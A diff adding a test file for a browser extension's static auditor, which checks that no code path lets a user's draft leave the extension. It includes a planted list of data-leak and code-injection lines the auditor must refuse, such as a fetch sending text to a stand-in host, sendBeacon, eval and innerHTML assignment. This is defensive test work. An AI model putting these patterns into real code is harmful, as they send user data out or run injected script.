@@ -1,0 +1,129 @@
+// No way out: what the content script, the background, the frame and our own
+// pages reach is read, and every way by which a draft could leave is refused.
+
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { audit, auditText, reach, type Allowance, type Finding } from './ways-out';
+
+const nothing: Allowance = { exactly: {}, chrome: [], packages: [] };
+
+const entries: Record<string, Allowance> = {
+  'extension/src/content.ts': {
+    exactly: {
+      "iframe.src = chrome.runtime.getURL('ui/frame.html') + '#' + nonce": 1,
+      'iframe.contentWindow?.postMessage({ nonce }, origin, [channel.port2])': 1,
+    },
+    chrome: ['runtime.sendMessage', 'runtime.onMessage', 'runtime.getURL', 'runtime.id', 'dom'],
+    packages: [],
+  },
+  'extension/src/background.ts': {
+    exactly: {
+      "fetch(chrome.runtime.getURL('engine.wasm'))": 1,
+      "indexedDB.open(database, 1)": 1,
+      "chrome.tabs.create({ url: chrome.runtime.getURL('pages/welcome.html') })": 1,
+    },
+    chrome: [
+      'runtime.onMessage', 'runtime.onStartup', 'runtime.onInstalled', 'runtime.getURL', 'runtime.id', 'runtime.getManifest',
+      'i18n.getMessage', 'action', 'permissions', 'scripting', 'tabs.query', 'tabs.sendMessage', 'tabs.onRemoved',
+    ],
+    packages: [],
+  },
+  'extension/ui/frame.tsx': {
+    exactly: {}, chrome: ['runtime.sendMessage', 'i18n'], packages: ['preact', 'preact/hooks'],
+  },
+  'extension/pages/popup.tsx': ownPage('permissions.request', 'permissions.contains', 'permissions.getAll', 'tabs.get', 'tabs.query', 'scripting'),
+  'extension/pages/options.tsx': ownPage(),
+  'extension/pages/welcome.tsx': ownPage(),
+};
+
+function ownPage(...more: string[]): Allowance {
+  return {
+    exactly: {},
+    chrome: ['runtime.sendMessage', 'runtime.getManifest', 'i18n', ...more],
+    packages: ['preact', 'preact/hooks'],
+  };
+}
+
+const told = (findings: Finding[]) => findings.map((f) => `${f.file}:${f.line} ${f.what}`).join('\n');
+
+for (const [entry, allow] of Object.entries(entries)) {
+  test(`${entry} has no way out`, () => {
+    const findings: Finding[] = [];
+    const files = reach(entry, allow.packages, findings);
+    findings.push(...audit(files, allow));
+    assert.equal(told(findings), '');
+  });
+}
+
+const planted = [
+  'fetch("https://a.example/?" + text)',
+  'const { fetch: f } = window',
+  'new XMLHttpRequest()',
+  'new WebSocket("wss://a.example")',
+  'new EventSource(x)',
+  'navigator.sendBeacon(x, text)',
+  'new Image().src = text',
+  'new RTCPeerConnection()',
+  'new WebTransport(x)',
+  'el.src = text',
+  'link.href = text',
+  'el.setAttribute("src", text)',
+  'el.setAttribute(name, text)',
+  'el.setAttribute("onclick", text)',
+  'el["src"] = text',
+  'el.innerHTML = text',
+  'el.outerHTML = text',
+  'el.insertAdjacentHTML("beforeend", text)',
+  'document.write(text)',
+  'window.open(text)',
+  'open(text)',
+  'eval(text)',
+  'new Function(text)',
+  'setTimeout("x()", 1)',
+  'import(text)',
+  'window["fet" + "ch"](text)',
+  'globalThis[name]()',
+  'document[name]()',
+  'navigator["sendBeacon"](x)',
+  'const w = window',
+  'const w = window as any',
+  'location = text',
+  'location.href = text',
+  'location.assign(text)',
+  'top.location = text',
+  'document.cookie = text',
+  'localStorage.setItem("a", text)',
+  'console.log(text)',
+  'chrome.storage.local.set({ text })',
+  'window.parent.postMessage(text, "*")',
+  'document.createElement("img")',
+  'document.createElement(name)',
+  'style.cssText = `background: url(${x})`',
+  '(() => {}).constructor("x")()',
+  'const x = <img src={text} />',
+  'const x = <p dangerouslySetInnerHTML={{ __html: text }} />',
+];
+
+for (const leak of planted) {
+  test(`refuses ${leak}`, () => assert.notEqual(told(auditText(leak, nothing)), ''));
+}
+
+const harmless = [
+  'port.postMessage({ t: "ready" })',
+  'this.port?.postMessage(m)',
+  'el.textContent = text',
+  'document.createElement("div")',
+  'const request = { src: 1 }',
+  'window.addEventListener("click", f, true)',
+  'el.setAttribute("role", "button")',
+  'const x = <a href="options.html">o</a>',
+];
+
+for (const line of harmless) {
+  test(`passes ${line}`, () => assert.equal(told(auditText(line, nothing)), ''));
+}
+
+test('an allowed line has to be there', () => {
+  const findings = audit([], { ...nothing, exactly: { 'a.src = b': 1 } });
+  assert.match(told(findings), /there 0 times/);
+});
